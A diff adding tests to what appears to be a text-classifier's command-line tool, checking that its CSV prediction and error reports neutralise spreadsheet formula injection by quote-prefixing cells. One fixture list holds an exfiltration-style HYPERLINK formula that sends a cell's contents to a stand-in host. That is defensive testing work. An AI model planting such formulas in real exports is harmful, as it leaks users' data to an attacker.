@@ -674,3 +674,47 @@ def test_readers_any_unicode(scratch, text, suffix):
         else:
             assert list(frame.columns) == dataset.COLUMNS
             assert (frame["text"] != "").all()
+
+
+# --------------------------------------------------------------------------- round two (#15)
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)"]
+
+
+def csv_cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_predictions_neutralise_formulas(tmp_path, tiny_model_path):
+    page = tmp_path / "=cmd.txt"
+    page.write_text("Council approves new bridge\n" + "\n".join(FORMULAS) + "\n", encoding="utf-8")
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "--proba")
+    assert result.exit_code == 0, result.output
+    header, *rows = csv_cells(result.stdout)
+    texts = [row[header.index("text")] for row in rows]
+    assert texts[1:] == ["'" + formula for formula in FORMULAS]
+    assert {row[header.index("doc_id")] for row in rows} == {"'=cmd"}
+    for row in rows:  # numbers stay numbers
+        assert all(float(row[header.index(f"proba_{label}")]) >= 0 for label in ("body", "legal"))
+    out = tmp_path / "out"
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "-o", out)
+    assert result.exit_code == 0, result.output
+    cells = csv_cells((out / "=cmd.csv").read_text(encoding="utf-8"))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
+
+
+def test_errors_csv_neutralises_formulas(tmp_path, tiny_model_path):
+    labeled = tmp_path / "page.tsv"
+    # Labels the model cannot all get right: every line is called legal.
+    labeled.write_text("".join(f"legal\t{text}\n" for text in FORMULAS), encoding="utf-8")
+    report = tmp_path / "report"
+    result = run("evaluate", labeled, *model_args(tiny_model_path), "--report", report)
+    assert result.exit_code == 0, result.output
+    header, *rows = csv_cells((report / "errors.csv").read_text(encoding="utf-8"))
+    assert rows
+    texts = [row[header.index("text")] for row in rows]
+    assert all(text in ["'" + formula for formula in FORMULAS] for text in texts), texts
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
